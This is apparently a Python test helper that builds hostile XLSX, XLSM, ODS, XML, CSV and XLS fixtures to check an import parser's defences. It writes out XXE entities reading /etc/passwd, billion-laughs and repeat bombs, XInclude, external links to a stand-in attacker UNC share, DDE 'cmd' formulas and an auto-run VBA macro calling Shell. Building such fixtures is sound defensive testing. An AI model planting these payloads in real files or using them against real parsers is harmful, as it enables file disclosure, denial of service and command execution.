"""Hostile files built by hand: what a spreadsheet or XML file can hide besides data.

``python tests/hostile/builders.py`` writes them as ``fixtures/hostile_*`` (the fuzz campaign mutates every
fixture); the security tests build variants aimed at a port they listen on.
"""
from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
HEADER = ("IDENTIFICATION_IDENTIFIER", "PERSON_FAMILYNAME", "CONTACT_PHONENUMBER_1", "CONTROL_FLOWID")

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


class Raw(str):
    """Cell text written into the XML as it is (an entity reference, not escaped)."""


def _xml_text(value: str) -> str:
    if isinstance(value, Raw):
        return str(value)
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _cell(ref: str, value: str, formula: str | None = None) -> str:
    """An inline string cell, with a formula whose cached value it is when ``formula`` is given."""
    if formula is None:
        return f'<c r="{ref}" t="inlineStr"><is><t>{_xml_text(value)}</t></is></c>'
    return f'<c r="{ref}" t="str"><f>{_xml_text(formula)}</f><v>{_xml_text(value)}</v></c>'


def xlsx_package(rows: list[list[tuple[str, str | None]]], extra_parts: dict[str, str] | None = None,
                 workbook_extra: str = "", workbook_rels_extra: str = "", content_types_extra: str = "",
                 sheet_prolog: str = "", macro: bytes | None = None) -> bytes:
    """An XLSX (XLSM with ``macro``) of one sheet: rows of (cached value, formula or None)."""
    letters = "ABCDEFGH"
    sheet_rows = "".join(
        f'<row r="{r}">' + "".join(_cell(f"{letters[c]}{r}", value, formula)
                                   for c, (value, formula) in enumerate(row)) + "</row>"
        for r, row in enumerate(rows, start=1))
    main_type = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    parts = {
        "[Content_Types].xml": (
            f'{_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            f"{content_types_extra}</Types>"),
        "_rels/.rels": (f'{_HEAD}<Relationships xmlns="{_PKG}"><Relationship Id="rId1" '
                        f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (f'{_HEAD}<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>'
                            f'<sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets>{workbook_extra}</workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'{_HEAD}<Relationships xmlns="{_PKG}">'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            + ('<Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
               'Target="vbaProject.bin"/>' if macro else "")
            + f"{workbook_rels_extra}</Relationships>"),
        "xl/worksheets/sheet1.xml": (f'{_HEAD}{sheet_prolog}<worksheet xmlns="{_MAIN}" xmlns:r="{_REL}">'
                                     f"<sheetData>{sheet_rows}</sheetData></worksheet>"),
        **(extra_parts or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(_member(name), text)
        if macro:
            archive.writestr(_member("xl/vbaProject.bin"), macro)
    return buffer.getvalue()


def _member(name: str, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    """A zip member with a fixed date, so that a rebuilt fixture has the same bytes."""
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = method
    return info


def external_links_xlsx(file_target: str = "file:///etc/passwd",
                        unc_target: str = "\\\\attacker.invalid\\share\\prices.xlsx",
                        http_target: str = "http://127.0.0.1:9/prices.xlsx") -> bytes:
    """An XLSX whose cells are formulas into three external workbooks (a local file, a UNC share, a web
    address), with the cached values a reader must take instead of following any link; plus WEBSERVICE,
    HYPERLINK and a DDE formula."""
    def link(number: int) -> str:
        return (f'{_HEAD}<externalLink xmlns="{_MAIN}" xmlns:r="{_REL}"><externalBook r:id="rId1">'
                '<sheetNames><sheetName val="Blad1"/></sheetNames><sheetDataSet><sheetData sheetId="0">'
                f'<row r="1"><cell r="A1" t="str"><v>cached-external-{number}</v></cell></row>'
                "</sheetData></sheetDataSet></externalBook></externalLink>")

    def link_rels(target: str) -> str:
        return (f'{_HEAD}<Relationships xmlns="{_PKG}"><Relationship Id="rId1" '
                f'Type="{_REL}/externalLinkPath" Target="{_xml_text(target)}" TargetMode="External"/>'
                "</Relationships>")

    parts, rels, types, refs = {}, "", "", ""
    for number, target in enumerate((file_target, unc_target, http_target), start=1):
        parts[f"xl/externalLinks/externalLink{number}.xml"] = link(number)
        parts[f"xl/externalLinks/_rels/externalLink{number}.xml.rels"] = link_rels(target)
        rels += (f'<Relationship Id="rId{10 + number}" Type="{_REL}/externalLink" '
                 f'Target="externalLinks/externalLink{number}.xml"/>')
        types += (f'<Override PartName="/xl/externalLinks/externalLink{number}.xml" '
                  'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>')
        refs += f'<externalReference r:id="rId{10 + number}"/>'
    rows = [
        [(h, None) for h in HEADER],
        [("E1", None), ("cached-external-1", "[1]Blad1!A1"), ("0612345678", None), ("1001", None)],
        [("E2", None), ("cached-external-2", "[2]Blad1!A1"), ("0612345679", None), ("1001", None)],
        [("E3", None), ("cached-external-3", "[3]Blad1!A1"), ("0612345670", None), ("1001", None)],
        [("E4", None), ("cached-webservice", f'WEBSERVICE("{http_target}")'), ("0612345671", None), ("1001", None)],
        [("E5", None), ("cached-hyperlink", f'HYPERLINK("{file_target}","cached-hyperlink")'),
         ("0612345672", None), ("1001", None)],
        [("E6", None), ("cached-dde", "cmd|' /C calc'!A0"), ("0612345673", None), ("1001", None)],
    ]
    return xlsx_package(rows, parts, workbook_extra=f"<externalReferences>{refs}</externalReferences>",
                        workbook_rels_extra=rels, content_types_extra=types)


#: cached values a reader must give for the external-link workbook's PERSON_FAMILYNAME column
EXTERNAL_LINK_VALUES = ["cached-external-1", "cached-external-2", "cached-external-3", "cached-webservice",
                        "cached-hyperlink", "cached-dde"]


def macro_xlsm() -> bytes:
    """An XLSM with an auto-run macro in its vbaProject.bin (OLE2 magic, then VBA-looking text)."""
    vba = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
           + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n Shell "touch /tmp/alphaimport-macro-ran"\r\n'
           b"End Sub\r\nSub Auto_Open()\r\n Shell \"calc.exe\"\r\nEnd Sub\r\n")
    rows = [[(h, None) for h in HEADER], [("M1", None), ("Macro", None), ("0612345678", None), ("1001", None)]]
    return xlsx_package(rows, macro=vba)


def xxe_in_xlsx(target: str = "file:///etc/passwd") -> bytes:
    """An XLSX whose sheet declares an external entity and uses it in a cell."""
    prolog = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{target}">]>'
    rows = [[(h, None) for h in HEADER], [("X1", None), (Raw("&xxe;"), None), ("0612345678", None), ("1001", None)]]
    return xlsx_package(rows, sheet_prolog=prolog)


def billion_laughs_in_xlsx() -> bytes:
    """An XLSX whose sheet XML carries the billion-laughs entity expansion."""
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    rows = [[(h, None) for h in HEADER], [("B1", None), (Raw("&l9;"), None), ("0612345678", None), ("1001", None)]]
    return xlsx_package(rows, sheet_prolog=f"<!DOCTYPE worksheet [{entities}]>")


def ods_package(content: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(_member("mimetype", zipfile.ZIP_STORED), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(_member("META-INF/manifest.xml"), (
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type='
            '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
            'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'))
        archive.writestr(_member("content.xml"), content)
    return buffer.getvalue()


_ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
           'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"')


def _ods_content(rows_xml: str, prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<office:document-content {_ODS_NS}><office:body>'
            f'<office:spreadsheet><table:table table:name="Blad1">{rows_xml}</table:table></office:spreadsheet>'
            "</office:body></office:document-content>")


def _ods_row(values: list[str]) -> str:
    return "<table:table-row>" + "".join(
        f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
        for v in values) + "</table:table-row>"


def xxe_in_ods(target: str = "file:///etc/passwd") -> bytes:
    """An ODS whose content.xml declares an external entity and uses it in a cell."""
    rows = _ods_row(list(HEADER)) + _ods_row(["X1", "&xxe;", "0612345678", "1001"])
    return ods_package(_ods_content(rows, f'<!DOCTYPE office:document-content [<!ENTITY xxe SYSTEM "{target}">]>'))


def ods_repeat_bomb() -> bytes:
    """An ODS of a few hundred bytes whose repeat counts claim a billion cells of text."""
    rows = _ods_row(list(HEADER)) + (
        '<table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell office:value-type="string" table:number-columns-repeated="1000">'
        "<text:p>x</text:p></table:table-cell></table:table-row>")
    return ods_package(_ods_content(rows))


def xml_files(port: int = 9) -> dict[str, bytes]:
    """XML attacks beyond the DTD fixtures: a UTF-16 DOCTYPE, a DOCTYPE after comments, XInclude,
    an entity reference without a DTD, and deep nesting."""
    passwd = "file:///etc/passwd"
    doctype = f'<!DOCTYPE annabel [<!ENTITY xxe SYSTEM "{passwd}">]>'
    body = "<annabel><record><person><familyname>&xxe;</familyname></person></record></annabel>"
    return {
        "hostile_xxe_utf16.xml": ('<?xml version="1.0" encoding="UTF-16"?>\n' + doctype + body).encode("utf-16"),
        "hostile_xxe_after_comments.xml": ('<?xml version="1.0"?>\n' + "<!-- x -->\n" * 500 + doctype + body).encode(),
        "hostile_xxe_remote_dtd.xml": (f'<?xml version="1.0"?><!DOCTYPE annabel SYSTEM "http://127.0.0.1:{port}/a.dtd">'
                                       "<annabel><record><person><familyname>x</familyname></person></record>"
                                       "</annabel>").encode(),
        "hostile_xinclude.xml": (
            '<?xml version="1.0"?><annabel xmlns:xi="http://www.w3.org/2001/XInclude"><record>'
            '<person><familyname><xi:include href="/etc/passwd" parse="text"/></familyname></person>'
            f'<contact><xi:include href="http://127.0.0.1:{port}/x.xml"/></contact>'
            "</record></annabel>").encode(),
        "hostile_entity_without_dtd.xml": b"<annabel><record><person><familyname>&xxe;</familyname></person>"
                                          b"</record></annabel>",
        "hostile_deep_nesting.xml": b"<annabel>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</annabel>",
    }


def text_files() -> dict[str, bytes]:
    """Text inputs holding what breaks parsers and terminals."""
    nasty = ["\x00", "\u202e", "\u200f", "\ufeff", "\u200b", "=cmd|' /C calc'!A0", "\x1b[31mred", "e\u0301",
             "\U0001F600", '"', ";", "\r"]
    csv_rows = ['"IDENTIFICATION_IDENTIFIER";"PERSON_FAMILYNAME";"CONTACT_PHONENUMBER_1";"CONTROL_FLOWID"']
    for number, value in enumerate(nasty, start=1):
        quoted = value.replace('"', '""')
        csv_rows.append(f'"U{number}";"Jansen{quoted}";"06123456{number:02d}";"1001"')
    records = [{"identifier": "S1", "personFamilyName": "half \ud800 pair", "toPhoneNumbers": ["0612345678"],
                "flowId": "1001"},
               {"identifier": "S2\udfff", "personFamilyName": "ok", "toPhoneNumbers": ["0612345679"],
                "flowId": "1001"}]
    return {
        "hostile_unicode.csv": ("\n".join(csv_rows[:1] + csv_rows[2:]) + "\n").encode("utf-8"),
        "hostile_nul_byte.csv": ("\n".join(csv_rows[:2]) + "\n").encode("utf-8"),
        "hostile_lone_surrogate.json": json.dumps(records).encode("ascii"),
        "hostile_deep_nesting.json": b"[" * 10_000 + b"]" * 10_000,
        "hostile_many_columns.csv": (";".join(f"C{i}" for i in range(5_000)) + "\n"
                                     + ";".join("x" for _ in range(5_000)) + "\n").encode(),
    }


def xls_files() -> dict[str, bytes]:
    """An .xls whose directory chain loops (calamine looped forever, eating memory) and one cut inside
    its directory (calamine panicked)."""
    import struct

    data = bytearray((FIXTURES / "xls_basic.xls").read_bytes())
    dir_start, = struct.unpack_from("<I", data, 0x30)
    fat_sector, = struct.unpack_from("<I", data, 0x4C)
    struct.pack_into("<I", data, 512 * (fat_sector + 1) + 4 * dir_start, dir_start)  # FAT[dir] = dir
    return {"hostile_xls_chain_loop.xls": bytes(data),
            "hostile_xls_cut_in_directory.xls": (FIXTURES / "xls_basic.xls").read_bytes()[:5618]}


def all_fixtures() -> dict[str, bytes]:
    """Every hostile fixture by file name."""
    files = {
        "hostile_external_links.xlsx": external_links_xlsx(),
        "hostile_macro_autorun.xlsm": macro_xlsm(),
        "hostile_xxe_in_sheet.xlsx": xxe_in_xlsx(),
        "hostile_billion_laughs_in_sheet.xlsx": billion_laughs_in_xlsx(),
        "hostile_xxe_in_content.ods": xxe_in_ods(),
        "hostile_repeat_bomb.ods": ods_repeat_bomb(),
    }
    files.update(xml_files())
    files.update(text_files())
    files.update(xls_files())
    return files


if __name__ == "__main__":
    for name, data in all_fixtures().items():
        (FIXTURES / name).write_bytes(data)
        print(FIXTURES / name, len(data))
